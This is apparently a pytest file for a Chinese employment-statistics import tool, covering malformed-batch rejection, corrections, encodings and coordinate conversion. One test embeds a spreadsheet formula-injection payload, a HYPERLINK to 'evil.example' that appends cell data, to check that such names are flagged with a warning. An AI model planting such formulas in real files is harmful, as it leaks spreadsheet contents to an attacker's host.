"""bureau import: a small city loaded from files, malformed batches rejected whole, idempotence and corrections.

Every load test runs on SQLite and PostgreSQL. A malformed batch must name the file, row and column with a
message a clerk understands, and leave every table exactly as it was (row counts and a hash of all rows).
"""

from __future__ import annotations

import io
import json
import shutil
import uuid
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, select, text

from jobs import cli
from jobs.importing.load import import_batch, table_checksums
from jobs.importing.problems import Problem
from service_circle import wgs84_to_gcj02
from store import schema as s
from store.db import make_engine
from tests.conftest import ROOT

DATA = ROOT / "tests" / "data" / "import"
BASE = [
    "areas.csv",
    "area_year.csv",
    "targets_gbk.csv",
    "reported_monthly.xlsx",
    "employment_events.csv",
    "unemployment_spells.csv",
    "boundaries.geojson",
]


def files(*names: str) -> list[tuple[str, bytes]]:
    return [(n, (DATA / n).read_bytes()) for n in names]


def run(url: str, batch: list[tuple[str, bytes]], **kw: object):  # type: ignore[no-untyped-def]
    engine = make_engine(url)
    try:
        return import_batch(engine, batch, user=str(kw.pop("user", "tester")), refresh_forecasts=False, **kw)  # type: ignore[arg-type]
    finally:
        engine.dispose()


def checksums(url: str) -> dict[str, tuple[int, str]]:
    engine = make_engine(url)
    with engine.connect() as conn:
        out = table_checksums(conn)
    engine.dispose()
    return out


def frame(url: str, stmt) -> pd.DataFrame:  # type: ignore[no-untyped-def]
    engine = make_engine(url)
    with engine.connect() as conn:
        out = pd.DataFrame(conn.execute(stmt).mappings().all())
    engine.dispose()
    return out


# --- the small city, built once per backend by importing the fixture files ------------------------------------------


@pytest.fixture(scope="module")
def city_sqlite(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("city") / "city.sqlite"
    report = run(f"sqlite:///{path}", files(*BASE), user="alice")
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    engine = make_engine(f"sqlite:///{path}")
    with engine.connect() as conn:
        conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    engine.dispose()
    return path


@pytest.fixture(scope="module")
def city_pg(pg_server: str) -> Iterator[str]:
    name = f"city_{uuid.uuid4().hex[:8]}"
    admin = create_engine(pg_server, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text("CREATE DATABASE " + name))  # generated name, not user input
    url = pg_server.rsplit("/", 1)[0] + "/" + name
    report = run(url, files(*BASE), user="alice")
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    yield url
    with admin.connect() as conn:
        conn.execute(text("DROP DATABASE IF EXISTS " + name + " WITH (FORCE)"))
    admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def city_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A private copy of the small city (a file copy on SQLite, a template database on PostgreSQL)."""
    if request.param == "sqlite":
        base = request.getfixturevalue("city_sqlite")
        target = tmp_path / "city.sqlite"
        shutil.copy(base, target)
        yield f"sqlite:///{target}"
        return
    base_url = request.getfixturevalue("city_pg")
    server = base_url.rsplit("/", 1)[0]
    name = f"c_{uuid.uuid4().hex[:10]}"
    admin = create_engine(server + "/postgres", isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text("CREATE DATABASE " + name + " TEMPLATE " + base_url.rsplit("/", 1)[1]))
    yield f"{server}/{name}"
    with admin.connect() as conn:
        conn.execute(text("DROP DATABASE IF EXISTS " + name + " WITH (FORCE)"))
    admin.dispose()


# --- positive cases ------------------------------------------------------------------------------------------------------


def test_valid_batch_loads_and_refreshes_aggregates(city_url: str) -> None:
    loads = frame(city_url, select(s.data_load).where(s.data_load.c.kind == "import"))
    assert len(loads) == 1
    load = loads.iloc[0]
    assert load["loaded_by"] == "alice" and int(load["rows"]) == 41
    assert str(load["cut_off"])[:10] == "2026-03-31"  # newest month covered: March 2026
    assert "targets_gbk.csv (targets, 6 rows, GBK)" in load["source"]
    assert "WGS84→GCJ-02" in load["source"] and "reported_monthly.xlsx" in load["source"]
    # the aggregates are rebuilt from the imported events: compare with a count done here in pandas
    events = pd.read_csv(DATA / "employment_events.csv", dtype={"street_code": str})
    urban = events[events["kind"] == "urban_new"].assign(month=lambda d: d["event_date"].str[5:7].astype(int))
    streets = pd.read_csv(DATA / "areas.csv", dtype=str).set_index("area_code")["parent_code"]
    expected = urban.groupby([urban["street_code"].map(streets), "month"]).size()
    a = s.agg_monthly
    got = frame(
        city_url,
        select(a.c.area_code, a.c.month, a.c.value).where(
            a.c.level == "district", a.c.indicator_code == "urban_new_employment", a.c.group_code == "all"
        ),
    )
    got = got[got["value"] > 0].set_index(["area_code", "month"])["value"]
    assert got.sort_index().to_dict() == {k: float(v) for k, v in expected.sort_index().items()}
    city = frame(city_url, select(a.c.value).where(a.c.level == "city", a.c.indicator_code == "urban_new_employment",
                                                   a.c.group_code == "all"))  # fmt: skip
    assert city["value"].sum() == len(urban) == 5
    # the registered unemployment rate uses the imported labour force: 1 open spell in 420103 at March end
    rate = frame(city_url, select(a.c.value).where(a.c.area_code == "420103", a.c.month == 3, a.c.year == 2026,
                                                   a.c.indicator_code == "registered_unemployment_rate"))  # fmt: skip
    assert rate["value"].iloc[0] == pytest.approx(1 / 300000 * 100)


def test_reimporting_the_same_files_changes_nothing(city_url: str) -> None:
    before = checksums(city_url)
    report = run(city_url, files(*BASE))
    assert report.exit_code == 0 and report.written == 0
    assert all(c["unchanged"] > 0 and c["inserted"] == c["replaced"] == 0 for c in report.counts.values())
    assert checksums(city_url) == before
    assert before["data_change"][0] == 0


def test_a_corrected_month_replaces_the_value_and_is_logged(city_url: str) -> None:
    corrected = "year,month,area_code,indicator_code,value\n2026,3,420103,urban_new_employment,5\n"
    report = run(city_url, [("reported_monthly_fix.csv", corrected.encode())], user="bob")
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    assert report.counts["reported_monthly"] == {"inserted": 0, "replaced": 1, "unchanged": 0}
    r = s.reported_monthly
    value = frame(
        city_url, select(r.c.value, r.c.reported_on).where(r.c.area_code == "420103", r.c.month == 3)
    )
    assert value["value"].tolist() == [5.0]
    assert str(value["reported_on"].iloc[0])[:10] == "2026-04-05"  # not in the file: the stored date is kept
    changes = frame(city_url, select(s.data_change))
    assert len(changes) == 1
    change = changes.iloc[0]
    assert change["table_name"] == "reported_monthly" and change["changed_by"] == "bob"
    assert json.loads(change["row_key"]) == {"year": 2026, "month": 3, "area_code": "420103",
                                             "indicator_code": "urban_new_employment"}  # fmt: skip
    assert json.loads(change["previous_json"]) == {"value": 0}
    assert json.loads(change["new_json"]) == {"value": 5}
    load = frame(city_url, select(s.data_load).where(s.data_load.c.load_id == int(change["load_id"])))
    assert load["kind"].iloc[0] == "import" and load["loaded_by"].iloc[0] == "bob"
    # a correction of March does not move the cut-off back or forth
    assert str(load["cut_off"].iloc[0])[:10] == "2026-03-31"
    again = run(city_url, [("reported_monthly_fix.csv", corrected.encode())])
    assert again.written == 0 and len(frame(city_url, select(s.data_change))) == 1


def test_geojson_boundaries_are_converted_from_wgs84_to_gcj02(city_url: str) -> None:
    a = s.area
    row = frame(city_url, select(a.c.boundary_geojson, a.c.datum).where(a.c.area_code == "420102")).iloc[0]
    assert row["datum"] == "GCJ-02"
    vertex = json.loads(row["boundary_geojson"])["coordinates"][0][0]
    lon, lat = wgs84_to_gcj02(114.28, 30.58)  # the first vertex of the fixture, in WGS84
    assert vertex == pytest.approx([float(lon), float(lat)], abs=1e-6)
    assert abs(vertex[0] - 114.28) > 1e-3  # the shift (~500 m) really happened


def test_new_person_level_records_refresh_the_aggregates(city_url: str) -> None:
    new = "登记编号,人员编号,街道代码,就业日期,就业类别,人员类别,就业形式\n7,107,420103001,2026-03-20,城镇新增就业,高校毕业生,灵活就业\n"
    report = run(city_url, [("就业登记.csv", new.encode("gbk"))])
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    assert report.files[0].encoding == "GBK" and report.refreshed_rows
    a = s.agg_monthly
    got = frame(city_url, select(a.c.value).where(a.c.area_code == "420103", a.c.month == 3, a.c.group_code == "all",
                                                  a.c.indicator_code == "graduate_employment"))  # fmt: skip
    assert got["value"].tolist() == [1.0]


# --- malformed batches: the right message, nothing written -----------------------------------------------------------


def _xlsx(rows: list[list[object]], merge: str | None = None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    if merge:
        ws.merge_cells(merge)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


EVENTS = (DATA / "employment_events.csv").read_text(encoding="utf-8")
TARGET_HEAD = "年份,区划代码,指标代码,目标值\n"
TRAILING_HEAD = b"year,area_code,district_code,indicator_code,target_value\n"


def _events_with(line: str) -> bytes:
    return (EVENTS + line + "\n").encode()


BAD_CASES = {
    "latin1": (
        [
            (
                "areas_new.csv",
                "area_code,level,parent_code,name_zh,name_en\n420103002,street,420103,Muller,Müller\n".encode(
                    "latin-1"
                ),
            )
        ],  # fmt: skip
        2,
        "areas_new.csv",
        None,
        None,
        "not UTF-8 or GBK",
    ),
    "latin1_strict": (
        [
            (
                "areas_new.csv",
                "area_code,level,parent_code,name_zh,name_en\n420103002,street,420103,Cafe,Café X\n".encode(
                    "latin-1"
                ),
            )
        ],  # fmt: skip
        2,
        "areas_new.csv",
        2,
        None,
        "not UTF-8 or GBK",
    ),
    "missing_column": (
        [("targets_2027.csv", "年份,区划代码,指标代码\n2026,420102,urban_new_employment\n".encode())],
        1,
        "targets_2027.csv",
        1,
        "target_value",
        "is missing",
    ),
    "renamed_column": (
        [("targets_2027.csv", "年份,area,指标代码,目标值\n2026,420102,urban_new_employment,3000\n".encode())],
        1,
        "targets_2027.csv",
        1,
        "area_code",
        "closest header in the file: area",
    ),
    "merged_header": (
        [
            (
                "reported_monthly_x.xlsx",
                _xlsx(
                    [
                        ["year", "month", "area_code", "indicator_code", "value"],
                        [2026, 3, "420103", "urban_new_employment", 4],
                    ],
                    merge="A1:B1",
                ),
            )
        ],
        1,
        "reported_monthly_x.xlsx",
        1,
        "year (A)",
        "Merged cells in the header",
    ),  # fmt: skip
    "bad_date": (
        [("employment_events.csv", _events_with("7,107,420103001,2026-02-30,urban_new,graduate,enterprise"))],
        1,
        "employment_events.csv",
        8,
        "event_date",
        "'2026-02-30' is not a valid date",
    ),
    "future_date": (
        [("employment_events.csv", _events_with("7,107,420103001,2099-01-01,urban_new,graduate,enterprise"))],
        1,
        "employment_events.csv",
        8,
        "event_date",
        "after today",
    ),
    "negative_count": (
        [
            (
                "area_year.csv",
                b"year,area_code,resident_population,working_age_population,labour_force,"
                b"secondary_share_pct,tertiary_share_pct\n2025,420102,900000,600000,-5,24,74\n",
            )
        ],
        1,
        "area_year.csv",
        2,
        "labour_force",
        "is negative",
    ),  # fmt: skip
    "unknown_district": (
        [("fund_allocation.csv", "年份,区代码,资金来源,金额（万元）\n2026,420199,中央,120\n".encode("gbk"))],
        1,
        "fund_allocation.csv",
        2,
        "区代码",
        "District code 420199 does not exist",
    ),
    "unknown_street": (
        [("employment_events.csv", _events_with("7,107,420199001,2026-03-02,urban_new,graduate,enterprise"))],
        1,
        "employment_events.csv",
        8,
        "street_code",
        "Street code 420199001 does not exist",
    ),
    "duplicate_in_file": (
        [("employment_events.csv", _events_with("6,106,420102002,2026-03-09,urban_new,graduate,enterprise"))],
        1,
        "employment_events.csv",
        8,
        "event_id",
        "Duplicates employment_events.csv row 7",
    ),
    "duplicate_across_files": (
        [
            ("targets_a.csv", (TARGET_HEAD + "2027,420103,skills_training,100\n").encode()),
            (
                "targets_b.csv",
                (TARGET_HEAD + "2025,420103,skills_training,90\n2027,420103,skills_training,100\n").encode(),
            ),
        ],
        1,
        "targets_b.csv",
        3,
        "指标代码",
        "Duplicates targets_a.csv row 2",
    ),  # fmt: skip
    "cut_off_csv": (
        [("employment_events.csv", (EVENTS + "7,107,420103001,2026-0").encode())],
        2,
        "employment_events.csv",
        8,
        None,
        "stops in the middle",
    ),
    "cut_off_xlsx": (
        [("reported_monthly.xlsx", (DATA / "reported_monthly.xlsx").read_bytes()[:3000])],
        2,
        "reported_monthly.xlsx",
        None,
        None,
        "damaged or incomplete",
    ),
    "streets_do_not_add_up": (
        [
            (
                "targets.csv",
                (
                    TARGET_HEAD + "2027,420102,skills_training,300\n2027,420102001,skills_training,100\n"
                    "2027,420102002,skills_training,150\n"
                ).encode(),
            )
        ],
        1,
        "targets.csv",
        2,
        "目标值",
        "streets add up to 250, but the district figure is 300",
    ),  # fmt: skip
    "unknown_indicator": (
        [("targets.csv", (TARGET_HEAD + "2027,420102,new_jobs,300\n").encode())],
        1,
        "targets.csv",
        2,
        "指标代码",
        "Indicator code new_jobs does not exist",
    ),
    "bad_unit": (
        [("fund_allocation.csv", "年份,区代码,资金来源,金额（美元）\n2026,420102,中央,120\n".encode())],
        1,
        "fund_allocation.csv",
        1,
        "金额（美元）",
        "Unit '美元' is not accepted",
    ),
    "pct_out_of_range": (
        [("targets.csv", (TARGET_HEAD + "2027,420102,registered_unemployment_rate,35000\n").encode())],
        1,
        "targets.csv",
        2,
        "目标值",
        "not between 0 and 100",
    ),
    "one_bad_file_blocks_the_batch": (
        [
            (
                "reported_monthly_fix.csv",
                b"year,month,area_code,indicator_code,value\n2026,3,420103,urban_new_employment,5\n",
            ),
            (
                "employment_events.csv",
                _events_with("7,107,420103001,2026-13-01,urban_new,graduate,enterprise"),
            ),
        ],
        1,
        "employment_events.csv",
        8,
        "event_date",
        "is not a valid date",
    ),  # fmt: skip
    # Malformed shapes (issue #18): each refused with a row message, never a traceback.
    "trailing_comma": (
        [("t.csv", TRAILING_HEAD + b"2026,420102,420102,urban_new_employment,50,\n")],
        1,
        "t.csv",
        2,
        None,
        "ends with an extra separator (comma): it has 6 columns but the header has 5",
    ),
    "trailing_comma_crlf_bom_gbk": (
        [
            (
                "targets_x.csv",
                b"\xef\xbb\xbf"
                + TRAILING_HEAD.replace(b"\n", b"\r\n")
                + b"2026,420102,420102,urban_new_employment,50,\r\n",
            ),
            ("targets_gbk.csv", (TARGET_HEAD + "2027,420103,skills_training,100,\n").encode("gbk")),
        ],
        1,
        "targets_gbk.csv",
        2,
        None,
        "it has 5 columns but the header has 4",
    ),  # fmt: skip
    "trailing_commas_on_some_rows": (
        [("t.csv", TRAILING_HEAD + b"2027,420103,,skills_training,100\n2027,420102,,skills_training,50,,\n")],
        1,
        "t.csv",
        3,
        None,
        "it has 7 columns but the header has 5",
    ),
    "extra_value": (
        [("t.csv", TRAILING_HEAD + b"2027,420103,,skills_training,100,note\n")],
        1,
        "t.csv",
        2,
        None,
        "This row has 6 columns but the header has 5",
    ),
    "fewer_fields": (
        [("t.csv", TRAILING_HEAD + b"2027,420103,420103,skills_training\n")],
        1,
        "t.csv",
        2,
        None,
        "only 4 of 5 columns",
    ),
    "unnamed_extra_column": (
        [("t.csv", TRAILING_HEAD.replace(b"\n", b",\n") + b"2027,420103,,skills_training,100,note\n")],
        1,
        "t.csv",
        1,
        "#6",
        "has data but no header",
    ),
    "unnamed_extra_column_xlsx": (
        [
            (
                "targets_x.xlsx",
                _xlsx(
                    [
                        ["year", "area_code", "indicator_code", "target_value"],
                        [2027, "420103", "skills_training", 100, "note"],
                    ]
                ),
            )
        ],
        1,
        "targets_x.xlsx",
        1,
        "E",
        "has data but no header",
    ),  # fmt: skip
    "no_header": (
        [("targets_x.csv", b",,,\n2027,420103,skills_training,100\n")],
        2,
        "targets_x.csv",
        1,
        None,
        "No header found",
    ),
    "only_separators": (
        [("t.csv", b",,,,\r\n,,,,\r\n")],
        2,
        "t.csv",
        None,
        None,
        "The file is empty",
    ),
}


def test_a_header_only_file_loads_nothing_and_says_so(city_url: str) -> None:
    before = checksums(city_url)
    for data in (TRAILING_HEAD, b"\xef\xbb\xbf" + TRAILING_HEAD.rstrip(b"\n")):
        report = run(city_url, [("t.csv", data)])
        assert report.exit_code == 0 and report.written == 0
        assert _find(report.problems, "t.csv", None, None, "no data rows under the header").level == "warning"
    assert checksums(city_url) == before


def test_the_current_month_is_refused_until_it_has_ended(city_url: str) -> None:
    """A month can be reported once it is over: on 15 April, March loads and April (and May) are refused."""
    head = b"year,month,area_code,indicator_code,value\n"
    current = head + b"2026,4,420103,urban_new_employment,5\n2026,5,420103,urban_new_employment,5\n"
    before = checksums(city_url)
    report = run(city_url, [("reported_monthly_x.csv", current)], today=date(2026, 4, 15))
    assert report.exit_code == 1
    p = _find(report.problems, "reported_monthly_x.csv", 2, "month", "is the current month and has not ended")
    assert "2026-05-01" in p.message("en") and "2026-05-01" in p.message("zh")
    _find(report.problems, "reported_monthly_x.csv", 3, "month", "has not ended yet")
    assert checksums(city_url) == before
    ended = head + b"2026,3,420103,urban_new_employment,5\n"
    assert (
        run(city_url, [("reported_monthly_x.csv", ended)], today=date(2026, 4, 1), dry_run=True).exit_code
        == 0
    )
    # and with the real clock: this month is refused today
    today = date.today()
    now = f"{today.year},{today.month},420103,urban_new_employment,5\n".encode()
    report = run(city_url, [("reported_monthly_x.csv", head + now)], dry_run=True)
    _find(report.problems, "reported_monthly_x.csv", 2, "month", "is the current month")


def test_a_name_that_would_run_as_a_formula_is_loaded_with_a_warning(city_url: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    areas = (
        "area_code,level,parent_code,name_zh,name_en\n"
        f'420103002,street,420103,"{hostile.replace(chr(34), chr(34) * 2)}",-Street\n'
        "420103003,street,420103,@SUM(A1),Plain\n"
    ).encode()
    report = run(city_url, [("areas_new.csv", areas)])
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    warned = [p for p in report.problems if p.key == "import_formula_text"]
    assert {(p.row, p.column) for p in warned} == {(2, "name_zh"), (2, "name_en"), (3, "name_zh")}
    assert all(p.level == "warning" for p in warned) and "single quote" in warned[0].message("en")
    got = frame(city_url, select(s.area.c.name_zh).where(s.area.c.area_code == "420103002"))
    assert got["name_zh"].tolist() == [hostile]  # stored as written; exports neutralise it


def _find(problems: list[Problem], file: str, row: int | None, column: str | None, phrase: str) -> Problem:
    for p in problems:
        same_cell = (row is None or p.row == row) and (column is None or (p.column or "").startswith(column))
        if p.file == file and phrase in p.message("en") and same_cell:
            return p
    raise AssertionError([(p.file, p.row, p.column, p.message("en")) for p in problems])


@pytest.mark.parametrize("case", list(BAD_CASES))
def test_malformed_batch_is_reported_and_nothing_is_written(city_url: str, case: str) -> None:
    batch, code, file, row, column, phrase = BAD_CASES[case]
    before = checksums(city_url)
    report = run(city_url, batch)
    assert report.exit_code == code, [(p.file, p.row, p.column, p.message("en")) for p in report.problems]
    problem = _find(report.problems, file, row, column, phrase)
    assert problem.message("zh") and problem.message("zh") != problem.key  # the Chinese text exists too
    assert checksums(city_url) == before


def test_many_bad_rows_are_summarised(tmp_path: Path, city_sqlite: Path) -> None:
    url = f"sqlite:///{shutil.copy(city_sqlite, tmp_path / 'c.sqlite')}"
    lines = [f"{100 + i},9{i},420102001,2026-02-31,urban_new,graduate,enterprise" for i in range(30)]
    report = run(url, [("employment_events.csv", (EVENTS + "\n".join(lines) + "\n").encode())])
    listed = [p for p in report.problems if p.key == "import_not_date"]
    more = [p for p in report.problems if p.key == "import_more_rows"]
    assert len(listed) == 20 and more and more[0].values["count"] == 10
    assert [p.row for p in listed] == list(range(8, 28))


def test_dry_run_on_the_demo_city_writes_nothing(both_demo_urls: str) -> None:
    engine = make_engine(both_demo_urls)
    r = s.reported_monthly
    with engine.connect() as conn:
        row = conn.execute(select(r).order_by(r.c.year.desc(), r.c.month.desc()).limit(1)).mappings().one()
        loads_before = conn.execute(select(s.data_load.c.load_id)).all()
    engine.dispose()
    csv = f"年份,月份,区划代码,指标代码,数值\n{row['year']},{row['month']},{row['area_code']},{row['indicator_code']},{row['value'] + 1}\n"
    report = run(both_demo_urls, [("月报.csv", csv.encode("utf-8-sig"))], dry_run=True)
    assert report.exit_code == 0 and report.dry_run
    assert report.files[0].encoding == "UTF-8 BOM"
    assert report.counts["reported_monthly"] == {"inserted": 0, "replaced": 1, "unchanged": 0}
    engine = make_engine(both_demo_urls)
    with engine.connect() as conn:
        after = conn.execute(select(r.c.value).where(*[r.c[k] == row[k] for k in ("year", "month", "area_code",
                                                                                      "indicator_code")])).scalar()  # fmt: skip
        assert after == row["value"]
        assert conn.execute(select(s.data_load.c.load_id)).all() == loads_before
    engine.dispose()


# --- the command line -----------------------------------------------------------------------------------------------


def test_cli_exit_codes(tmp_path: Path, city_sqlite: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{shutil.copy(city_sqlite, tmp_path / 'c.sqlite')}"
    good = tmp_path / "reported_monthly.csv"
    good.write_text("year,month,area_code,indicator_code,value\n2026,3,420103,urban_new_employment,5\n")
    bad = tmp_path / "targets.csv"
    bad.write_text("year,area_code,indicator_code,target_value\n2027,420199,skills_training,1\n")
    cut = tmp_path / "events.csv"
    cut.write_text(EVENTS + "7,107,4201")
    common = ["--url", url, "--lang", "en", "--user", "carol", "--no-forecast"]
    assert cli.main(["import", str(bad), *common]) == 1
    assert "targets.csv, row 2, column area_code: Area code 420199 does not exist" in capsys.readouterr().err
    assert cli.main(["import", str(cut), *common]) == 2
    assert cli.main(["import", str(tmp_path / "nope.csv"), *common]) == 2
    assert cli.main(["import", str(good), *common, "--dry-run"]) == 0
    assert "dry run" in capsys.readouterr().out
    assert cli.main(["import", str(good), *common]) == 0
    assert "Loaded 1 rows" in capsys.readouterr().out
    assert (
        cli.main(
            ["import", str(good), "--url", "postgresql+psycopg://nobody@127.0.0.1:1/none", "--no-forecast"]
        )
        == 3
    )


def test_cli_refuses_a_trailing_comma_with_its_row(
    tmp_path: Path, city_sqlite: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue #18: ``bureau import t.csv --dry-run`` gave a TypeError traceback."""
    url = f"sqlite:///{shutil.copy(city_sqlite, tmp_path / 'c.sqlite')}"
    bad = tmp_path / "t.csv"
    bad.write_bytes(TRAILING_HEAD + b"2026,420102,420102,urban_new_employment,50,\n")
    assert cli.main(["import", str(bad), "--url", url, "--lang", "en", "--dry-run", "--no-forecast"]) == 1
    err = capsys.readouterr().err
    assert "t.csv, row 2: This row ends with an extra separator (comma)" in err and "Traceback" not in err
    assert cli.main(["import", str(bad), "--url", url, "--lang", "zh", "--dry-run", "--no-forecast"]) == 1
    assert "第2行" in capsys.readouterr().err


def test_template_command_writes_csv_and_excel(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    assert cli.main(["template", "targets", "--format", "xlsx", "--out", str(out)]) == 0
    wb = load_workbook(out)
    assert len(wb.sheetnames) == 2
    assert [c.value for c in wb.worksheets[0][1]] == ["年份", "区划代码", "区代码", "指标代码", "目标值"]
    help_rows = [[c.value for c in row] for row in wb.worksheets[1].iter_rows(min_row=4)]
    assert [r[0] for r in help_rows] == [
        "year",
        "area_code",
        "district_code",
        "indicator_code",
        "target_value",
    ]
    assert all(r[4] and r[5] for r in help_rows)  # an explanation in Chinese and in English
    csv_out = tmp_path / "fund.csv"
    assert (
        cli.main(["template", "fund_allocation", "--format", "csv", "--headers", "en", "--out", str(csv_out)])
        == 0
    )
    assert csv_out.read_bytes() == "\ufeffyear,district_code,source,amount_yuan\n".encode()
    assert cli.main(["template", "nonsense", "--out", str(tmp_path / "x.csv")]) == 2


def test_an_empty_template_imports_as_nothing_to_do(tmp_path: Path, city_sqlite: Path) -> None:
    from jobs.importing.templates import BY_NAME, write_template

    url = f"sqlite:///{shutil.copy(city_sqlite, tmp_path / 'c.sqlite')}"
    batch = [(f"{name}.xlsx", write_template(BY_NAME[name], "xlsx", "zh")) for name in ("targets", "loans")]
    batch += [(f"{name}.csv", write_template(BY_NAME[name], "csv", "en")) for name in ("surveys", "persons")]
    report = run(url, batch)
    assert report.exit_code == 0 and report.written == 0
    assert sorted(f.template for f in report.files) == ["loans", "persons", "surveys", "targets"]


def test_units_in_headers_are_converted(city_url: str) -> None:
    csv = "年份,区代码,资金来源,金额（万元）\n2026,420102,中央,12.5\n2026,420103,市级资金,3\n"
    report = run(city_url, [("资金分配.csv", csv.encode("gbk"))])
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    got = frame(city_url, select(s.fund_allocation).order_by(s.fund_allocation.c.district_code))
    assert got["amount_yuan"].tolist() == [125000.0, 30000.0]
    assert got["source"].tolist() == ["central", "city"]


def test_point_coordinates_in_wgs84_are_stored_in_gcj02(city_url: str) -> None:
    csv = ("point_id,name_zh,level,street_code,lon,lat,opened_on,capacity_people,datum\n"
           "1,大智站,street_station,420102001,114.29,30.59,2024-01-01,20000,WGS84\n"
           "2,民族站,street_station,420103001,114.27,30.57,2024-01-01,20000,GCJ-02\n")  # fmt: skip
    report = run(city_url, [("service_points.csv", csv.encode())])
    assert report.exit_code == 0, [p.message("en") for p in report.problems]
    got = frame(city_url, select(s.service_point).order_by(s.service_point.c.point_id))
    lon, lat = wgs84_to_gcj02(114.29, 30.59)
    assert got.loc[0, ["lon", "lat"]].tolist() == pytest.approx([float(lon), float(lat)], abs=1e-9)
    assert got.loc[1, ["lon", "lat"]].tolist() == [114.27, 30.57]
    assert set(got["datum"]) == {"GCJ-02"} and got["district_code"].tolist() == ["420102", "420103"]
    assert got["name_en"].tolist() == ["大智站", "民族站"] and got["staff"].tolist() == [1, 1]
    assert "WGS84" in report.files[0].datums


def test_the_datum_formula_matches_service_circle() -> None:
    from jobs.importing.datum import wgs84_to_gcj02 as ours

    rng = np.random.default_rng(7)
    lon, lat = rng.uniform(73, 136, 5000), rng.uniform(3, 54, 5000)
    assert np.abs(np.array(ours(lon, lat)) - np.array(wgs84_to_gcj02(lon, lat))).max() < 1e-12


def test_template_extension_decides_the_format_or_is_refused(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    """``--out t.csv`` writes CSV (it once wrote an Excel workbook under that name); a mismatch is refused."""
    csv_out = tmp_path / "t.csv"
    assert cli.main(["template", "targets", "--out", str(csv_out)]) == 0
    assert csv_out.read_bytes().startswith("\ufeff年份,".encode())  # text, not a zip archive
    xlsx_out = tmp_path / "t.xlsx"
    assert cli.main(["template", "targets", "--out", str(xlsx_out)]) == 0
    assert xlsx_out.read_bytes()[:2] == b"PK" and load_workbook(xlsx_out).sheetnames
    capsys.readouterr()
    bad = tmp_path / "bad.csv"
    assert cli.main(["template", "targets", "--format", "xlsx", "--out", str(bad)]) == 2
    assert "does not match" in capsys.readouterr().err and not bad.exists()
    assert cli.main(["template", "targets", "--out", str(tmp_path / "t.xls")]) == 2
    assert ".csv or .xlsx" in capsys.readouterr().err and not (tmp_path / "t.xls").exists()
